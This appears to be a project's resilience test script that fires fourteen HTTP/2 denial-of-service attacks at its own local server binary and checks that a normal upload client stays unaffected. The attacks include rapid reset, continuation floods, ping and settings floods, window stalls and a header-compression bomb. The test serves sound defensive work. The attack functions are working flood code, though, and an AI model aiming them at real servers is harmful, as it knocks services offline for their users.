#!/usr/bin/env python3
"""An attacker that speaks HTTP/2, and a normal client beside it.

Each attack is a flood or a stall that HTTP/2 makes possible. While it runs a normal client uploads over and over: every
upload succeeds, in its normal time. Afterwards the program has let go of everything: connections, memory, CPU.

    tests/attack/http2.py --binary target/debug/asr-edge --scratch target/tests/attack
"""

import argparse
import os
import socket
import sys
import tempfile
import threading
import time
import urllib.request
from pathlib import Path

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

REPOSITORY = Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(REPOSITORY / "tests/clients"))

from programs import KEY, Edge, Stub  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# An attack that nobody has stopped by then has won.
ATTACK_SECONDS = 20
# Uploads beside the attack: the slowest may take so long. Two cores run attacker, victim, upstream and client.
SLOWEST_SECONDS = 2.0
GROWTH_KIB = 64 * 1024
# CPU that may be used in a second when everything is over.
IDLE_CPU_SECONDS = 0.1


class Won(Exception):
    """The attack was let through."""


class Line:
    """A raw connection: preface and settings sent, answers read and forgotten by whoever wants to."""

    def __init__(self, address, settings=None):
        self.socket = socket.create_connection(address, timeout=ATTACK_SECONDS)
        self.socket.sendall(PREFACE + SettingsFrame(settings=settings or {}).serialize())
        self.encoder = Encoder()
        self.stream = -1

    def block(self, path="/healthz", method="GET", more=()):
        fields = [(":method", method), (":scheme", "http"), (":authority", "asr.test"), (":path", path)]
        return self.encoder.encode([*fields, ("authorization", f"Bearer {KEY}"), *more], huffman=False)

    def headers(self, block, flags=("END_HEADERS", "END_STREAM")):
        self.stream += 2
        return HeadersFrame(self.stream, data=block, flags=list(flags)).serialize()

    def open_upload(self):
        more = [("content-type", "multipart/form-data; boundary=a-boundary-of-24-letters")]
        self.socket.sendall(self.headers(self.block("/v1/audio/transcriptions", "POST", more), ["END_HEADERS"]))
        return self.stream

    def send_until_stopped(self, pieces, reading=True):
        """Sends until the other side ends the connection; how many pieces it took."""
        stopped = threading.Event()
        if reading:
            threading.Thread(target=self._read, args=(stopped,), daemon=True).start()
        end = time.monotonic() + ATTACK_SECONDS
        sent = 0
        try:
            for piece in pieces:
                if stopped.is_set():
                    return sent
                if time.monotonic() > end:
                    break
                self.socket.sendall(piece)
                sent += 1
        except OSError:
            # Closed, reset, or no longer read from.
            return sent
        if stopped.wait(max(0, end - time.monotonic())):
            return sent
        raise Won(f"{sent} pieces were taken")

    def _read(self, stopped):
        try:
            while self.socket.recv(65536):
                pass
        except OSError:
            pass
        stopped.set()


def rapid_reset(address):
    """Streams opened and reset in one write (CVE-2023-44487)."""
    line = Line(address)
    block = line.block()

    def pieces():
        for _ in range(2_000):
            yield b"".join(
                line.headers(block) + RstStreamFrame(line.stream, error_code=8).serialize() for _ in range(50)
            )

    line.send_until_stopped(pieces())


def slow_reset(address):
    """The same, each stream accepted before it is reset; the answers are never read."""
    line = Line(address)
    block = line.block()

    def pieces():
        while True:
            opened = line.headers(block)
            yield opened
            time.sleep(0.001)
            yield RstStreamFrame(line.stream, error_code=8).serialize()

    line.send_until_stopped(pieces())


def server_resets(address):
    """Frames that make the server reset its own streams (CVE-2025-8671)."""
    line = Line(address)

    def pieces():
        for _ in range(100_000):
            opened = line.headers(line.block("/v1/audio/transcriptions", "POST"), ["END_HEADERS"])
            yield opened + WindowUpdateFrame(line.stream, window_increment=0x7FFFFFFF).serialize()

    line.send_until_stopped(pieces())


def endless_headers(address):
    """A header block in continuations without end (CVE-2024-27316)."""
    line = Line(address)

    def pieces():
        yield line.headers(line.block(), ["END_STREAM"])
        filler = line.encoder.encode([("x-filler", "v" * 16_000)], huffman=False)[:16_000]
        while True:
            yield ContinuationFrame(line.stream, data=filler).serialize()

    line.send_until_stopped(pieces())


def empty_continuations(address):
    """The same without a byte in them."""
    line = Line(address)

    def pieces():
        yield line.headers(line.block(), ["END_STREAM"])
        empty = ContinuationFrame(line.stream, data=b"").serialize() * 100
        while True:
            yield empty

    line.send_until_stopped(pieces())


def header_bomb(address):
    """One long value in the compression table, named thousands of times."""
    line = Line(address)

    def pieces():
        line.encoder.encode([("x-bomb", "v" * 3_900)], huffman=False)
        for _ in range(5_000):
            yield line.headers(line.block(more=[("x-bomb", "v" * 3_900)] * 4_000))

    try:
        line.send_until_stopped(pieces())
    except Won:
        # Each is refused by itself; memory and the client beside tell whether that is enough.
        pass


def empty_data(address):
    """Frames of a body that is none (CVE-2019-9518)."""
    line = Line(address)
    stream = line.open_upload()
    line.send_until_stopped(iter(lambda: DataFrame(stream, data=b"").serialize() * 100, None))


def padded_data(address):
    """Frames of nothing but padding."""
    line = Line(address)
    stream = line.open_upload()
    padded = DataFrame(stream, data=b"", flags=["PADDED"], pad_length=1).serialize() * 100
    try:
        line.send_until_stopped(padded for _ in range(20_000))
    except Won:
        pass


def unread_pings(address):
    """Pings whose answers are never read (CVE-2019-9512)."""
    line = Line(address)
    line.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    line.socket.settimeout(3)
    flood = PingFrame(0, opaque_data=b"12345678").serialize() * 100
    # No longer read from: it costs what the socket holds. It ends with its idle time.
    line.send_until_stopped(iter(lambda: flood, None), reading=False)


def unread_settings(address):
    """Settings whose acknowledgements are never read (CVE-2019-9515)."""
    line = Line(address)
    line.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    line.socket.settimeout(3)
    flood = SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize() * 100
    line.send_until_stopped(iter(lambda: flood, None), reading=False)


def stalled_windows(address):
    """As many answers as there may be, and no window for any (CVE-2019-9517)."""
    lines = []
    for _ in range(20):
        line = Line(address, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        block = line.block("/v1/models")
        line.socket.sendall(b"".join(line.headers(block) for _ in range(100)))
        lines.append(line)
    for line in lines:
        line.send_until_stopped(iter(()))


def unread_answers(address):
    """Answers asked for without end on a socket that is not read from."""
    line = Line(address)
    line.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    line.socket.settimeout(3)
    block = line.block("/v1/models")
    line.send_until_stopped((line.headers(block) for _ in range(1_000_000)), reading=False)


def small_windows(address):
    """Answers taken a byte at a time (CVE-2019-9511)."""
    line = Line(address, {SettingsFrame.INITIAL_WINDOW_SIZE: 1})
    block = line.block("/v1/models")
    line.socket.sendall(b"".join(line.headers(block) for _ in range(20)))
    bytes_more = b"".join(WindowUpdateFrame(stream, window_increment=1).serialize() for stream in range(1, 41, 2))

    def pieces():
        while True:
            time.sleep(0.05)
            yield bytes_more

    line.send_until_stopped(pieces())


def too_many_streams(address):
    """More streams than there may be, all of them open."""
    line = Line(address)
    more = [("content-type", "multipart/form-data; boundary=a-boundary-of-24-letters")]
    block = line.block("/v1/audio/transcriptions", "POST", more)
    try:
        line.send_until_stopped(line.headers(block, ["END_HEADERS"]) for _ in range(20_000))
    except Won:
        pass


ATTACKS = [
    rapid_reset,
    slow_reset,
    server_resets,
    endless_headers,
    empty_continuations,
    header_bomb,
    empty_data,
    padded_data,
    unread_pings,
    unread_settings,
    stalled_windows,
    unread_answers,
    small_windows,
    too_many_streams,
]


class Client:
    """Uploads over and over until told to stop; remembers how long each took and what went wrong."""

    BODY = (
        b'--a-boundary-of-24-letters\r\nContent-Disposition: form-data; name="file"; filename="a.wav"\r\n\r\n'
        + b"RIFF\x24\x40\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x80\x3e\0\0\0\x7d\0\0\2\0\x10\0data\0\x40\0\0"
        + bytes(16_384)
        + b"\r\n--a-boundary-of-24-letters--\r\n"
    )

    def __init__(self, url):
        self.url = url
        self.took, self.faults = [], []
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._run)

    def upload(self):
        request = urllib.request.Request(
            self.url + "/v1/audio/transcriptions",
            self.BODY,
            {
                "Authorization": f"Bearer {KEY}",
                "Content-Type": "multipart/form-data; boundary=a-boundary-of-24-letters",
            },
        )
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        start = time.monotonic()
        with opener.open(request, timeout=30) as answer:
            answer.read()
        self.took.append(time.monotonic() - start)

    def _run(self):
        while not self.stopped.is_set():
            try:
                self.upload()
            except OSError as error:
                self.faults.append(str(error))
            time.sleep(0.02)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.stopped.set()
        self.thread.join()


def memory(pid):
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise SystemExit("the program is gone")


def cpu(pid):
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def sockets(pid):
    found = 0
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        try:
            found += os.readlink(entry).startswith("socket:")
        except FileNotFoundError:
            pass
    return found


def settled(pid, before):
    """Waits until nothing of the attack is left; what is, if it stays."""
    left = ""
    end = time.monotonic() + 15
    while time.monotonic() < end:
        used = cpu(pid)
        time.sleep(1)
        used = cpu(pid) - used
        held = sockets(pid)
        # A few idle ones upstream may stay.
        if used <= IDLE_CPU_SECONDS and held <= before + 4:
            return ""
        left = f"{held - before} more sockets, {used:.2f} s of CPU in a second"
    return left


def run(attack, edge, client_url, address):
    before, held = memory(edge.pid), sockets(edge.pid)
    faults = []
    start, used = time.monotonic(), cpu(edge.pid)
    with Client(client_url) as client:
        try:
            attack(address)
        except Won as won:
            faults.append(str(won))
        took = time.monotonic() - start
        time.sleep(0.3)
    used = cpu(edge.pid) - used
    grown = memory(edge.pid) - before
    slowest = max(client.took, default=float("inf"))
    if client.faults:
        faults.append(f"{len(client.faults)} uploads beside it failed: {client.faults[0]}")
    if slowest > SLOWEST_SECONDS:
        faults.append(f"an upload beside it took {slowest:.2f} s")
    if grown > GROWTH_KIB:
        faults.append(f"{grown} KiB more memory")
    if left := settled(edge.pid, held):
        faults.append(left)
    print(
        f"{'FAIL' if faults else 'ok  '} {attack.__name__:20} {took:5.1f} s, {used:5.2f} s CPU, {grown:6} KiB, "
        f"{len(client.took):4} uploads beside it, slowest {slowest * 1000:4.0f} ms",
        flush=True,
    )
    for fault in faults:
        print(f"     {fault}")
    return not faults


def main():
    arguments = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    arguments.add_argument("--binary", default=REPOSITORY / "target/debug/asr-edge", type=Path)
    arguments.add_argument("--scratch", type=Path)
    arguments.add_argument("attacks", nargs="*", help="by name; default: all")
    asked = arguments.parse_args()
    scratch = (asked.scratch or Path(tempfile.mkdtemp())).resolve()
    scratch.mkdir(parents=True, exist_ok=True)
    chosen = [attack for attack in ATTACKS if not asked.attacks or attack.__name__ in asked.attacks]

    stub = Stub(asked.binary, scratch, tls=False)
    # Times short enough to be waited for.
    edge = Edge(asked.binary, scratch, stub, limits='body_timeout = "3s"\nidle_timeout = "4s"\nhead_timeout = "3s"')
    host, port = edge.url.removeprefix("http://").split(":")
    try:
        warm = Client(edge.url)
        for _ in range(20):
            warm.upload()
        passed = [run(attack, edge, edge.url, (host, int(port))) for attack in chosen]
    finally:
        edge.stop()
        stub.stop()
    print(f"{sum(passed)} passed, {len(passed) - sum(passed)} failed")
    sys.exit(not all(passed))


if __name__ == "__main__":
    main()
